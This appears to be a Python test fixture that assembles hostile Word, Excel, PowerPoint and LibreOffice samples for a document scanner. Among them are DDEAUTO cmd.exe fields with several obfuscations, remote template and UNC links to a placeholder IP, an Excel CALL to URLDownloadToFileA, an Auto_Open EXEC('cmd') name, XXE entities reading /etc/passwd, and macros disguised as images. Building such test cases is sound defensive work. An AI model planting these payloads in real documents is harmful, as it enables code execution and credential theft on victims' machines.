"""Documents of office programs that hold programs or lead out, each made here: name -> parts."""

from tests.support import samples

OFFICE_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT_RELATIONS = "http://schemas.microsoft.com/office/2006/relationships"
UNC = r"\\203.0.113.9\share\x"
WEB = "http://203.0.113.9/x"


def relation(kind, target, *, mode="External", base=OFFICE_RELATIONS):
    """A list of one relationship."""
    how = f' TargetMode="{mode}"' if mode else ""
    return (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
        f'.org/package/2006/relationships"><Relationship Id="r1" Type="{base}/{kind}" '
        f'Target="{target}"{how}/></Relationships>'
    )


def word(*, rels="", body="", **more):
    """A document of Word with this body and these relationships."""
    parts = {"word/_rels/document.xml.rels": rels} if rels else {}
    if body:
        parts["word/more.xml"] = f'<w:document xmlns:w="w" xmlns:v="v">{body}</w:document>'
    return lambda: samples.docx(**parts, **more)


def excel(**parts):
    """A table of Excel."""
    return lambda: samples.docx("spreadsheetml.sheet", **parts)


def slides(**parts):
    """A presentation."""
    return lambda: samples.docx("presentationml.presentation", **parts)


def writer(body="", kind="text", **parts):
    """A document of LibreOffice with this in its content."""
    return lambda: samples.odt(kind, **({"styles.xml": f"<o>{body}</o>"} if body else {}), **parts)


def mark(kind):
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def run(words, tag="instrText"):
    return f"<w:r><w:{tag}>{words}</w:{tag}></w:r>"


def field(*runs):
    """A field whose instruction is written in these runs."""
    return mark("begin") + "".join(runs) + mark("separate") + run("result", "t") + mark("end")


def formula(words):
    """A table with one formula."""
    cell = f"<worksheet><sheetData><row><c><f>{words}</f></c></row></sheetData></worksheet>"
    return excel(**{"xl/worksheets/sheet9.xml": cell})


def kind(content_type, name="word/x.bin"):
    """A part that says it is of this kind."""
    return lambda: samples.docx(
        **{name: "x", "word/more.xml": "<a/>"},
        main=f'{samples.OFFICE}wordprocessingml.document.main+xml"/><Override PartName="/{name}" '
        f'ContentType="{content_type}',
    )


DDE = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'
QUOTED_DDE = field(run("QUOTE 68 68 69 65 85 84 79"))
SCRIPT_ADDRESS = "vnd.sun.star.script:a.b?language=Basic&amp;location=application"

WORDS = {
    "template elsewhere": word(rels=relation("attachedTemplate", UNC)),
    "template in other words": word(
        rels=relation("attachedTemplate", UNC).replace("External", "&#69;xternal")
    ),
    "template, list in other letters": word(
        **{"word/_RELS/settings.xml.RELS": relation("attachedTemplate", UNC).replace('"', "'")}
    ),
    "list in sixteen bits": word(
        **{
            "word/_rels/footer1.xml.rels": relation("image", UNC)
            .replace("UTF-8", "UTF-16")
            .encode("utf-16")
        }
    ),
    "object elsewhere": word(rels=relation("oleObject", WEB)),
    "picture elsewhere": word(rels=relation("image", WEB)),
    "picture over the network": word(rels=relation("image", UNC)),
    "frame elsewhere": word(rels=relation("frame", WEB)),
    "part of a larger document": word(rels=relation("subDocument", UNC)),
    "web page taken in": word(rels=relation("aFChunk", "x.html", mode="")),
    "web page taken in from elsewhere": word(rels=relation("aFChunk", WEB)),
    "link to a file": word(rels=relation("hyperlink", "file:///c:/windows/system32/cmd.exe")),
    "link over the network": word(rels=relation("hyperlink", UNC)),
    "link to a script": word(rels=relation("hyperlink", "javascript:alert(1)")),
    "link of a program": word(rels=relation("hyperlink", "ms-word:ofe|u|http://203.0.113.9/x")),
    "link beside the document": word(rels=relation("hyperlink", "evil.exe")),
    "mode that is unknown": word(rels=relation("image", UNC, mode="external")),
    "inside that is outside": word(rels=relation("image", "file://203.0.113.9/x", mode="")),
    "inside over the network": word(rels=relation("image", UNC, mode="Internal")),
    "inside over the network, turned": word(
        rels=relation("image", "//203.0.113.9/share/x", mode="Internal")
    ),
    "source of letters": word(rels=relation("mailMergeSource", UNC)),
    "control": word(rels=relation("control", "a/a.xml", mode="")),
    "embedded package": word(rels=relation("package", "embeddings/a.bin", mode="")),
    "menu": word(
        **{
            "_rels/x.rels": relation(
                "extensibility", "a.xml", mode="", base="http://schemas.microsoft.com/office/2006"
            )
        }
    ),
    "macros under a wrong name": word(
        rels=relation("vbaProject", "media/image1.png", mode="", base=MICROSOFT_RELATIONS)
    ),
    "add-in of the web": word(
        rels=relation(
            "webextension", "a.xml", mode="", base="http://schemas.microsoft.com/office/2011"
        )
    ),
    "relation nobody knows": word(rels=relation("runThis", "a.xml", mode="")),
    "kind of macros": kind("application/vnd.ms-office.vbaProject", "word/media/image1.png"),
    "kind of macros, escaped": kind("application/vnd.ms-office.vba&#80;roject"),
    "kind of objects": kind("application/vnd.openxmlformats-officedocument.oleObject"),
    "kind of web pages": kind("message/rfc822"),
    "kind nobody knows": kind("application/x-msdownload"),
    "dde": word(body=field(run(DDE))),
    "dde over runs": word(body=field(run("D"), run("DE"), run("AUTO c:\\\\cmd.exe"))),
    "dde over paragraphs": word(
        body=f"<w:p>{mark('begin')}{run('DD')}</w:p><w:p>{run('E x y')}{mark('end')}</w:p>"
    ),
    "dde in plain runs": word(body=field(run("DD", "t"), run("EAUTO a b", "t"))),
    "dde never ended": word(body=mark("begin") + run(DDE)),
    "dde without a beginning": word(body=run(DDE)),
    "dde in one element": word(body=f"<w:fldSimple w:instr='{DDE}'/>"),
    "dde under another prefix": word(body=f"<x:fldSimple xmlns:x='w' x:instr='{DDE}'/>"),
    "dde made of numbers": word(body=mark("begin") + QUOTED_DDE + run(" a b") + mark("end")),
    "dde made of halves": word(body=mark("begin") + run("DD") + QUOTED_DDE + mark("end")),
    "dde behind a deleted word": word(
        body=field(f"<w:del>{run('PAGE ', 'delInstrText')}</w:del>", run(DDE))
    ),
    "dde behind an inserted word": word(body=field(f"<w:ins>{run('PAGE ')}</w:ins>", run(DDE))),
    "dde in another branch": word(
        body=mark("begin")
        + f"<mc:Choice xmlns:mc='m'>{run('PAGE ')}</mc:Choice>"
        + f"<mc:Fallback xmlns:mc='m'>{run(DDE)}</mc:Fallback>"
        + mark("end")
    ),
    "dde in an answer": word(body=field(run("IF 1=1 "), field(run(DDE)))),
    "dde in small letters": word(body=field(run(" ddeAuto a b"))),
    "picture field": word(body=field(run(f'INCLUDEPICTURE "{WEB}" \\d'))),
    "text field": word(body=field(run(f'INCLUDETEXT "{UNC}"'))),
    "linked field": word(body=field(run("LINK Excel.FiguresDetail.8 a b"))),
    "table of another document": word(body=field(run(f'RD "{UNC}"'))),
    "button": word(body=field(run("MACROBUTTON Run press"))),
    "database field": word(body=field(run("DATABASE \\d a"))),
    "field of a link over the network": word(body=field(run(f'HYPERLINK "{UNC}"'))),
    "field of a link behind a place": word(body=field(run(f'HYPERLINK \\l "a" "{UNC}"'))),
    "field of a link without a space": word(body=field(run('HYPERLINK"file:///c:/cmd.exe"'))),
    "field of a link put together": word(
        body=mark("begin") + run("HYPERLINK ") + field(run("DOCVARIABLE a")) + mark("end")
    ),
    "drawn picture elsewhere": word(body=f'<v:imagedata src="{WEB}"/>'),
    "drawn picture over the network": word(body=f'<v:imagedata o:href="{UNC}" xmlns:o="o"/>'),
    "letters from a list": word(body="<w:mailMerge><w:connectString/></w:mailMerge>"),
    "declared entities": word(
        **{"word/x.xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "http://203.0.113.9/x">]><a>&b;</a>'}
    ),
    "style sheet": word(
        **{"word/x.xml": '<?xml-stylesheet type="text/xsl" href="http://203.0.113.9/x"?><a/>'}
    ),
    "drawing with a script": word(**{"word/media/a.svg": "<svg><script>alert(1)</script></svg>"}),
    "drawing that acts": word(**{"word/media/a.svg": '<svg onload="alert(1)"/>'}),
    "drawing with a picture elsewhere": word(
        **{"word/media/a.svg": f'<svg><image href="{WEB}"/></svg>'}
    ),
    "part that nobody can read": word(**{"word/x.xml": "<a><b></a>"}),
    "two parts of one name": word(**{"word/DOCUMENT.xml": "<a/>"}),
    "signed with a template elsewhere": word(
        rels=relation("attachedTemplate", UNC).replace("External", "&#69;xternal"),
        **{"_xmlsignatures/sig1.xml": "<Signature/>"},
    ),
    "signed with something in between": lambda: samples.docx(
        **{"_xmlsignatures/sig1.xml": "<Signature/>"}
    ).replace(b"PK\x01\x02", b"PK\x03\x04PK\x01\x02", 1),
}

TABLES = {
    "table of another file": excel(
        **{"xl/_rels/workbook.xml.rels": relation("externalLink", "a/a.xml", mode="")}
    ),
    "linked workbook": excel(
        **{"xl/a/_rels/a.xml.rels": relation("externalLinkPath", "file:///x.xlsx")}
    ),
    "dde of a table": excel(
        **{"xl/a/a.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'}
    ),
    "connections": excel(
        **{"xl/_rels/workbook.xml.rels": relation("connections", "a.xml", mode="")}
    ),
    "query": excel(**{"xl/_rels/sheet.xml.rels": relation("queryTable", "a.xml", mode="")}),
    "query of the web": excel(**{"xl/a.xml": f'<connection><webPr url="{WEB}"/></connection>'}),
    "sheet of macros": excel(
        **{
            "xl/_rels/workbook.xml.rels": relation(
                "xlMacrosheet", "a.xml", mode="", base=MICROSOFT_RELATIONS
            )
        }
    ),
    "formula with dde": formula("cmd|'/c calc'!A0"),
    "formula of the web": formula('WEBSERVICE("http://203.0.113.9/")'),
    "formula of the web, newer": formula('_xlfn.WEBSERVICE ("http://203.0.113.9/")'),
    "formula with a call": formula('CALL("urlmon","URLDownloadToFileA","JJCCJJ")'),
    "formula with a picture": formula('_xlfn.IMAGE("http://203.0.113.9/")'),
    "formula of another file": formula(r"'\\203.0.113.9\[a.xlsx]a'!A1"),
    "formula with a link to a program": formula('HYPERLINK("file:///c:/cmd.exe","a")'),
    "formula with a link over the network": formula(f'HYPERLINK("{UNC}","a")'),
    "name with a macro": excel(
        **{"xl/a.xml": '<a><definedName name="Auto_Open">EXEC("cmd")</definedName></a>'}
    ),
    "button with a macro elsewhere": excel(
        **{"xl/drawings/a.xml": f"""<xdr:sp macro="'{UNC}'!a" xmlns:xdr="x"/>"""}
    ),
    "slide that starts a program": slides(
        **{"ppt/slides/a.xml": '<a:hlinkClick action="ppaction://program" xmlns:a="a"/>'}
    ),
    "slide that starts a macro": slides(
        **{"ppt/slides/a.xml": '<a:hlinkHover action="ppaction://macro?name=a" xmlns:a="a"/>'}
    ),
    "slide that opens a file": slides(
        **{"ppt/slides/a.xml": '<a:hlinkClick action="ppaction://hlinkfile" xmlns:a="a"/>'}
    ),
    "slide that starts an object": slides(
        **{"ppt/slides/a.xml": '<p:cmd type="verb" cmd="3" xmlns:p="p"/>'}
    ),
    "film elsewhere": slides(**{"ppt/slides/_rels/a.xml.rels": relation("video", WEB)}),
}

OPEN = {
    "macros in an object": writer(**{"Object 1/Basic/Standard/a.xml": "<a/>"}),
    "macros in small letters": writer(**{"basic/Standard/a.xml": "<a/>"}),
    "menus": writer(**{"Configurations2/menubar/menubar.xml": "<a/>"}),
    "script in the content": writer("<office:script script:language='JavaScript'/>"),
    "event": writer(
        f"<script:event-listener script:event-name='dom:load' xlink:href='{SCRIPT_ADDRESS}'/>"
    ),
    "event under another prefix": writer(
        f"<p:event-listener p:action='show' x:href='{SCRIPT_ADDRESS}'/>"
    ),
    "slide that starts a program of its own": writer(
        "<presentation:event-listener presentation:action='execute'/>", "presentation"
    ),
    "link to a macro": writer(f"<text:a xlink:href='{SCRIPT_ADDRESS}'>a</text:a>"),
    "link to a command": writer("<text:a xlink:href='.uno:Quit'>a</text:a>"),
    "open link over the network": writer(f"<text:a xlink:href='{UNC}'>a</text:a>"),
    "open link to a file": writer("<text:a xlink:href='file:///c:/cmd.exe'>a</text:a>"),
    "open picture elsewhere": writer(f"<draw:image xlink:href='{WEB}'/>"),
    "open picture beside the document": writer("<draw:image xlink:href='../../x.png'/>"),
    "open object elsewhere": writer(f"<draw:object xlink:href='{UNC}'/>"),
    "object of another program": writer("<draw:object-ole xlink:href='./Object 1'/>"),
    "frame": writer(f"<draw:floating-frame xlink:href='{WEB}'/>"),
    "plug-in": writer("<draw:plugin xlink:href='./a'/>"),
    "applet": writer("<draw:applet draw:code='a'/>"),
    "text of another document": writer(f"<text:section-source xlink:href='{UNC}'/>"),
    "open dde": writer("<office:dde-source office:dde-application='cmd'/>"),
    "open dde of a text": writer("<text:dde-connection-decl office:dde-application='cmd'/>"),
    "cells of another file": writer(
        f"<table:cell-range-source xlink:href='{UNC}'/>", "spreadsheet"
    ),
    "table of another file, open": writer(
        f"<table:table-source xlink:href='{UNC}'/>", "spreadsheet"
    ),
    "open database": writer("<text:database-display text:database-name='a'/>"),
    "open form": writer(f"<form:form xlink:href='{WEB}'/>"),
    "open macro field": writer("<text:execute-macro text:name='a'/>"),
    "open formula with dde": writer(
        '<c table:formula=\'of:=DDE("soffice";"a";"b")\'/>', "spreadsheet"
    ),
    "open formula of the web": writer("<c table:formula='of:=WEBSERVICE(\"http://a\")'/>", "text"),
    "open formula of another file": writer(
        """<c table:formula="of:=['file://203.0.113.9/a.ods'#$A.A1]"/>""", "spreadsheet"
    ),
    "open entities": writer(
        **{"styles.xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'}
    ),
}

HOSTILE_OFFICE = {**WORDS, **TABLES, **OPEN}
